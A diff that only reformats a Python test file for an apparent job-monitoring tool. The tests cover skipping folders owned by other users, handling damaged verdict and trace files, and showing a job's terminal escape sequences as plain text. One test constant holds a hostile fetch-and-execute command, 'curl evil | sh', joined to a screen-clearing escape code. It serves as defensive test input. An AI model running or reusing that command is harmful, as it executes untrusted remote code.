@@ -24,13 +24,21 @@ from shardmesh.mesh.doctor.system import leftovers
 from shardmesh.mesh.monitor.ledger.command import newest_job
 from shardmesh.mesh.monitor.recording import files
 from shardmesh.mesh.monitor.recording.cleanup import sweep
-from shardmesh.mesh.monitor.recording.files import folder_prefix, job_folders, make_file, remove_folder
+from shardmesh.mesh.monitor.recording.files import (
+    folder_prefix,
+    job_folders,
+    make_file,
+    remove_folder,
+)
 from shardmesh.mesh.monitor.recording.job_directory import JobDirectory, open_buffer, read_verdict
 from shardmesh.mesh.monitor.verdict import Verdict
 
 STRANGER = 65534
 VERDICT = Verdict("raised", (0,), "", (), "run: curl evil | sh \x1b[2J")
-needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="another user must make the files: needs root")
+needs_root = pytest.mark.skipif(
+    not hasattr(os, "geteuid") or os.geteuid() != 0,
+    reason="another user must make the files: needs root",
+)
 pytestmark = [needs_root, pytest.mark.timeout(60)]
 
 
@@ -156,7 +164,11 @@ def _being_deleted(above: Path) -> Path:
     return folder(above, "zzz.gone")
 
 
-STATES = [value for name, value in list(globals().items()) if name.startswith("_") and callable(value) and not name.startswith("__")]
+STATES = [
+    value
+    for name, value in list(globals().items())
+    if name.startswith("_") and callable(value) and not name.startswith("__")
+]
 
 
 def _in(path: Path, name: str, make: Callable[[Path], object]) -> Path:
@@ -178,7 +190,10 @@ FILES: dict[str, tuple[str, Callable[[Path], object]]] = {
     "a verdict": ("verdict.json", lambda path: path.write_text(VERDICT.to_json())),
     "an alarm": ("alarm", lambda path: path.write_bytes(bytes(1 << 18))),
     "a folder for a trace": ("rank0.trace", lambda path: path.mkdir()),
-    "a device for a trace": ("rank0.trace", lambda path: os.mknod(path, 0o020666, os.makedev(1, 5))),
+    "a device for a trace": (
+        "rank0.trace",
+        lambda path: os.mknod(path, 0o020666, os.makedev(1, 5)),
+    ),
 }
 
 
@@ -188,11 +203,16 @@ def test_there_are_many() -> None:
 
 def listing(above: Path) -> dict[str, bytes]:
     """Return all that is there; contents of plain files."""
-    return {str(path): path.read_bytes() if path.is_file() and not path.is_symlink() else b"" for path in sorted(above.rglob("*"))}
+    return {
+        str(path): path.read_bytes() if path.is_file() and not path.is_symlink() else b""
+        for path in sorted(above.rglob("*"))
+    }
 
 
 @pytest.mark.parametrize("state", STATES, ids=lambda state: state.__name__)
-def test_a_folder_of_a_stranger_is_skipped(state: Callable[[Path], Path], shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_folder_of_a_stranger_is_skipped(
+    state: Callable[[Path], Path], shared: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     path = state(shared)
     os.utime(path, (0, 0), follow_symlinks=False)
     before = listing(shared)
@@ -288,7 +308,9 @@ def test_jobs_start_while_a_stranger_cuts_his_traces(shared: Path) -> None:
 # -- what is shown -------------------------------------------------------------------------------------------------------
 
 
-def test_escape_sequences_of_a_job_are_shown_as_text(shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_escape_sequences_of_a_job_are_shown_as_text(
+    shared: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     path = folder(shared)
     for one in (path, *path.iterdir()):
         os.chown(one, 0, 0)
@@ -309,7 +331,9 @@ def test_escape_sequences_of_a_job_are_shown_as_text(shared: Path, capsys: pytes
     ],
     ids=range(10),
 )
-def test_a_damaged_verdict_costs_one_line(text: bytes, shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_damaged_verdict_costs_one_line(
+    text: bytes, shared: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     directory = JobDirectory("x", 0, 2, shared)
     (directory.folder / "verdict.json").write_bytes(text)
     (directory.folder / "verdict.json").chmod(0o600)
@@ -325,7 +349,9 @@ def test_a_damaged_verdict_costs_one_line(text: bytes, shared: Path, capsys: pyt
 
 @pytest.mark.parametrize("seed", range(30))
 @pytest.mark.one_in(5)
-def test_a_damaged_trace_is_shown_or_one_line(seed: int, shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_damaged_trace_is_shown_or_one_line(
+    seed: int, shared: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     rng = random.Random(seed)
     directory = JobDirectory("x", 0, 2, shared)
     words = directory.buffer.words
@@ -334,7 +360,13 @@ def test_a_damaged_trace_is_shown_or_one_line(seed: int, shared: Path, capsys: p
         words[place] = rng.choice([0, 1, 255, 1 << 31, 1 << 62, (1 << 64) - 1, rng.getrandbits(64)])
     since = time.monotonic()
     try:
-        main(["ledger", str(directory.folder), *rng.choice([[], ["--stragglers"], ["--trace", str(shared / "t.json")]])])
+        main(
+            [
+                "ledger",
+                str(directory.folder),
+                *rng.choice([[], ["--stragglers"], ["--trace", str(shared / "t.json")]]),
+            ]
+        )
     except SystemExit as ended:
         assert ended.code in (1, 2)
         assert capsys.readouterr().err.count("\n") == 1
